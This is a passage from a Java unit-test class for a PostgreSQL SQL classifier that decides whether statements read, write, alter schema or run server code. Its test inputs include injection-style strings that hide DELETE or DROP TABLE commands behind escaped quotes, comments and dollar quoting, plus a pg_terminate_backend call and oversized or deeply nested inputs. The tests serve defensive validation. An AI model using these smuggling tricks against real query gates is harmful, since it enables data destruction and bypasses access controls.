        SqlStatement m = one("MERGE INTO t USING (VALUES (1)) s(id) ON t.id = s.id WHEN MATCHED THEN DELETE");
        assertThat(m.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(m.functions()).isEmpty();
        assertThat(one("SELECT * FROM (t1 JOIN t2 USING (a) AS j) AS bar(x, y)").kind()).isEqualTo(SqlKind.READ);
        // outside a FROM list a name after a parenthesis is still a call
        assertThat(one("SELECT DISTINCT ON (a) evil(b) FROM t").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT * FROM (SELECT 1) s(a) JOIN evil() e ON true").kind())
                .isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("SELECT * FROM t TABLESAMPLE system (1) REPEATABLE (evil())").kind())
                .isEqualTo(SqlKind.SERVER_CODE);
    }

    @Test
    void syntaxThatLooksLikeACallIsNot() {
        assertThat(one("SELECT interval '1' second(2), interval '1:2' minute to second(2)").kind())
                .isEqualTo(SqlKind.READ);
        assertThat(one("SELECT a FROM t ORDER BY a FETCH FIRST (2) ROWS WITH TIES").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("SELECT * FROM XMLTABLE(XMLNAMESPACES('http://x' AS x), '/x:r' PASSING '<r/>' "
                + "COLUMNS a int)").kind()).isEqualTo(SqlKind.READ);
        assertThat(one("CREATE INDEX i ON t USING my_am (a)").kind()).isEqualTo(SqlKind.DDL);
        assertThat(one("CREATE INDEX i ON t USING my_am (evil(a))").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("COPY t FROM STDIN (FORMAT csv, FORCE_NULL (a), FORCE_NOT_NULL (b))").kind())
                .isEqualTo(SqlKind.WRITE);
        assertThat(one("COPY t FROM STDIN (FORCE_NULL (a)) WHERE evil(a)").kind()).isEqualTo(SqlKind.SERVER_CODE);
        SqlStatement f = one("SELECT * FROM current_date, localtimestamp(3) t, collation for ('x') c");
        assertThat(f.kind()).isEqualTo(SqlKind.READ);
        assertThat(f.tablesRead()).isEmpty();
        assertThat(one("SELECT * FROM \"current_date\"").tablesRead()).containsExactly(t("current_date"));
    }

    @Test
    void renamingOrReowningAnAdminObjectIsDdl() {
        assertThat(one("ALTER FOREIGN DATA WRAPPER w RENAME TO w2").kind()).isEqualTo(SqlKind.DDL);
        assertThat(one("ALTER EVENT TRIGGER e OWNER TO someone").kind()).isEqualTo(SqlKind.DDL);
        assertThat(one("ALTER POLICY p ON t RENAME TO q").kind()).isEqualTo(SqlKind.DDL);
        assertThat(one("ALTER FOREIGN DATA WRAPPER w HANDLER h").kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(one("ALTER SUBSCRIPTION s SET (slot_name = 'owner to')").kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(one("ALTER ROLE r RENAME TO s").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("ALTER POLICY p ON t USING (true)").kind()).isEqualTo(SqlKind.DCL);
        // a table named "rename": TO names the policy's roles here
        assertThat(one("ALTER POLICY p ON rename TO someone").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("ALTER POLICY p ON rename TO someone USING (true)").kind()).isEqualTo(SqlKind.DCL);
        assertThat(one("ALTER SUBSCRIPTION owner SET (slot_name = NONE)").kind()).isEqualTo(SqlKind.ADMIN);
    }

    @Test
    void createTableAsWithNoDataDoesNotRunItsQuery() {
        SqlStatement mv = one("CREATE MATERIALIZED VIEW mv AS SELECT evil() FROM src WITH NO DATA");
        assertThat(mv.kind()).isEqualTo(SqlKind.DDL);
        assertThat(mv.functions()).containsExactly("evil");
        assertThat(mv.tablesRead()).containsExactly(t("src"));
        assertThat(one("CREATE TABLE x AS SELECT evil() WITH DATA").kind()).isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("CREATE TABLE x AS SELECT evil()").kind()).isEqualTo(SqlKind.SERVER_CODE);
        // the WITH of a CTE is not the data clause
        assertThat(one("CREATE TABLE x AS WITH d AS (SELECT evil()) SELECT * FROM d").kind())
                .isEqualTo(SqlKind.SERVER_CODE);
        assertThat(one("CREATE TABLE x AS WITH d AS (SELECT evil()) SELECT * FROM d WITH NO DATA").kind())
                .isEqualTo(SqlKind.DDL);
        // EXECUTE … WITH NO DATA still plans the prepared statement and evaluates its parameters
        assertThat(one("CREATE TABLE x AS EXECUTE p(evil()) WITH NO DATA").kind()).isEqualTo(SqlKind.ADMIN);
    }

    // ---- lexical tricks

    @Test
    void backslashInStandardStringDoesNotEscapeTheQuote() {
        SqlAnalysis a = analyzer.analyze("SELECT 'a\\'; DELETE FROM t; --'");
        assertThat(a.statements()).hasSize(2);
        assertThat(a.kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void escapedQuoteInExtendedStringHidesTheSemicolon() {
        SqlAnalysis a = analyzer.analyze("SELECT E'\\''; DELETE FROM t; --'");
        assertThat(a.statements()).hasSize(2);
        assertThat(a.kind()).isEqualTo(SqlKind.WRITE);
        SqlAnalysis b = analyzer.analyze("SELECT E'\\'; DELETE FROM t; --'");
        assertThat(b.statements()).hasSize(1);
        assertThat(b.kind()).isEqualTo(SqlKind.READ);
    }

    @Test
    void nestedBlockCommentsHideWhatTheyContain() {
        SqlAnalysis a = analyzer.analyze("SELECT 1 /* outer /* inner */ ; DELETE FROM t; */ ; SELECT 2");
        assertThat(a.statements()).hasSize(2);
        assertThat(a.kind()).isEqualTo(SqlKind.READ);
        assertThat(analyzer.analyze("SELECT 1 /* never closed /* */").unparsed()).isTrue();
    }

    @Test
    void lineCommentEndsAtCarriageReturn() {
        // the comment ends at \r: what follows is read (here "delete" is a bare column label)
        SqlAnalysis a = analyzer.analyze("SELECT 1 -- comment\rDELETE FROM t");
        assertThat(a.statements()).hasSize(1);
        assertThat(a.tablesRead()).containsExactly(t("t"));
        assertThat(analyzer.analyze("SELECT 1; -- comment\rDELETE FROM t").kind()).isEqualTo(SqlKind.WRITE);
    }

    @Test
    void dollarQuotesNeedTheirOwnTag() {
        SqlAnalysis a = analyzer.analyze("SELECT $a$ $$; DELETE FROM t; $$ $a$; SELECT $_1$x$_1$");
        assertThat(a.statements()).hasSize(2);
        assertThat(a.kind()).isEqualTo(SqlKind.READ);
        assertThat(analyzer.analyze("SELECT $a$ never closed $b$").unparsed()).isTrue();
        assertThat(analyzer.analyze("SELECT a$b$ FROM t").tablesRead()).containsExactly(t("t"));
    }

    @Test
    void decodesUnicodeIdentifiers() {
        assertThat(one("SELECT * FROM U&\"d\\0061t\\+000061\"").tablesRead()).containsExactly(t("data"));
        assertThat(one("SELECT * FROM U&\"d!0061t!+000061\" UESCAPE '!'").tablesRead()).containsExactly(t("data"));
        assertThat(one("SELECT * FROM \"Ünïcødé\".\"ТАБЛИЦА\"").tablesRead())
                .containsExactly(t("Ünïcødé", "ТАБЛИЦА"));
        // only ASCII letters are folded, as in a UTF8 server
        assertThat(one("SELECT * FROM ÜBER").tablesRead()).containsExactly(t("Über"));
        assertThat(analyzer.analyze("SELECT * FROM U&\"\\zzzz\"").unparsed()).isTrue();
        assertThat(analyzer.analyze("SELECT U&'x' UESCAPE '+'").unparsed()).isTrue();
    }

    @Test
    void truncatesLongIdentifiersLikeTheServer() {
        String longName = "a".repeat(100);
        assertThat(one("SELECT * FROM " + longName).tablesRead()).containsExactly(t("a".repeat(63)));
    }

    @Test
    void rejectsNumbersWithTrailingJunk() {
        assertThat(analyzer.analyze("SELECT 123abc").unparsed()).isTrue();
        assertThat(analyzer.analyze("SELECT 0x1F, 0o17, 0b101, 1_000_000, 1.5e-3, .5").unparsed()).isFalse();
    }

    // ---- splitting

    @Test
    void splitsMultiStatementStringsAsTheServerDoes() {
        SqlAnalysis a = analyzer.analyze(";;SELECT 1;; INSERT INTO t VALUES (';');\nDROP TABLE x;");
        assertThat(a.statements()).extracting(SqlStatement::type).containsExactly("SELECT", "INSERT", "DROP TABLE");
        assertThat(a.kind()).isEqualTo(SqlKind.DDL);
        assertThat(analyzer.analyze("").statements()).isEmpty();
        assertThat(analyzer.analyze("").kind()).isEqualTo(SqlKind.READ);
    }

    @Test
    void keepsSqlStandardRoutineBodiesTogether() {
        SqlAnalysis a = analyzer.analyze("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC "
                + "SELECT CASE WHEN true THEN 1 END; SELECT 2; END; SELECT 3");
        assertThat(a.statements()).extracting(SqlStatement::type).containsExactly("CREATE FUNCTION", "SELECT");
    }

    @Test
    void aFunctionNamedBeginDoesNotHideTheNextStatement() {
        SqlAnalysis a = analyzer.analyze("CREATE FUNCTION begin() RETURNS int LANGUAGE sql AS 'select 1'; "
                + "SELECT pg_terminate_backend(1)");
        assertThat(a.statements()).hasSize(2);
        assertThat(a.kind()).isEqualTo(SqlKind.ADMIN);
    }

    @Test
    void keepsRuleActionsTogether() {
        SqlAnalysis a = analyzer.analyze("CREATE RULE r AS ON INSERT TO t DO ALSO (INSERT INTO l VALUES (1); "
                + "DELETE FROM m); SELECT 1");
        assertThat(a.statements()).extracting(SqlStatement::type).containsExactly("CREATE RULE", "SELECT");
    }

    @Test
    void semicolonInsideParenthesesIsNeverReadAsHarmless() {
        SqlStatement s = one("SELECT (1; DROP TABLE x)");
        assertThat(s.unparsed()).isTrue();
        assertThat(s.kind()).isEqualTo(SqlKind.ADMIN);
    }

    // ---- limits

    @Test
    void deepNestingIsUnparsedInLinearTime() {
        int depth = 200_000;
        String sql = "SELECT " + "(".repeat(depth) + "1" + ")".repeat(depth);
        long start = System.nanoTime();
        SqlStatement s = one(sql);
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10)); // quadratic would take hours; generous for a loaded machine
        assertThat(s.unparsedReason()).contains("nesting deeper than 1000");
        assertThat(s.kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(one("SELECT " + "(".repeat(500) + "1" + ")".repeat(500)).unparsed()).isFalse();
    }

    @Test
    void oneMegabyteStatementIsAnalysedInLinearTime() {
        StringBuilder b = new StringBuilder("INSERT INTO big (a, b) VALUES ");
        while (b.length() < 1_048_576) {
            b.append("(1, 'x'''), ");
        }
        b.append("(2, $$y$$)");
        long start = System.nanoTime();
        SqlStatement s = one(b.toString());
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10)); // quadratic would take hours; generous for a loaded machine
        assertThat(s.kind()).isEqualTo(SqlKind.WRITE);
        assertThat(s.tablesWritten()).containsExactly(t("big"));
    }

    @Test
    void tooLongIsUnparsedWithAClearReason() {
        SqlAnalyzer small = new SqlAnalyzer(SqlAnalyzerOptions.defaults().withMaxLength(10));
        SqlAnalysis a = small.analyze("SELECT 1 FROM t");
        assertThat(a.kind()).isEqualTo(SqlKind.ADMIN);
        assertThat(a.statements().get(0).unparsedReason()).isEqualTo("statement too long: 15 characters (limit 10)");
    }

    // ---- fingerprint and cache

    @Test
    void fingerprintIgnoresLiteralsParametersCommentsAndCase() {
        String a = analyzer.analyze("SELECT * FROM t WHERE id = 1 AND s = 'x'").fingerprint();
        String b = analyzer.analyze("select *  from T /* c */ where ID = $1 and s = E'y'").fingerprint();
        String c = analyzer.analyze("SELECT * FROM \"T\" WHERE id = 1 AND s = 'x'").fingerprint();
        assertThat(a).isEqualTo(b).hasSize(32).isNotEqualTo(c);
    }

    @Test
    void cacheIsBoundedAndServesEqualShapes() {
        SqlAnalyzer cached = new SqlAnalyzer(SqlAnalyzerOptions.defaults().withCacheSize(10));
        SqlAnalysis first = cached.analyze("SELECT * FROM t WHERE id = 1");
        assertThat(cached.analyze("SELECT * FROM t WHERE id = 2")).isSameAs(first);
        for (int i = 0; i < 100; i++) {
            cached.analyze("SELECT c" + i + " FROM t");
        }
        assertThat(cached.cachedShapes()).isLessThanOrEqualTo(10);
    }

    @Test
    void analysesConcurrently() throws Exception {
        List<String> corpus = List.of("SELECT 1", "DELETE FROM t", "WITH x AS (UPDATE t SET a=1) SELECT 1",
                "COPY t TO STDOUT", "SELECT nextval('s')");
        List<SqlKind> expected = corpus.stream().map(s -> new SqlAnalyzer().analyze(s).kind()).toList();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            CountDownLatch go = new CountDownLatch(1);
            List<Future<Boolean>> results = new java.util.ArrayList<>();
            for (int th = 0; th < 4; th++) {
                results.add(pool.submit(() -> {
                    go.await();
                    for (int r = 0; r < 2000; r++) {
                        int k = r % corpus.size();
                        if (analyzer.analyze(corpus.get(k)).kind() != expected.get(k)) {
                            return false;
                        }
                    }
                    return true;
                }));
            }
            go.countDown();
            for (Future<Boolean> f : results) {
                assertThat(f.get()).isTrue();
            }
        } finally {
            pool.shutdownNow();
        }
    }
}
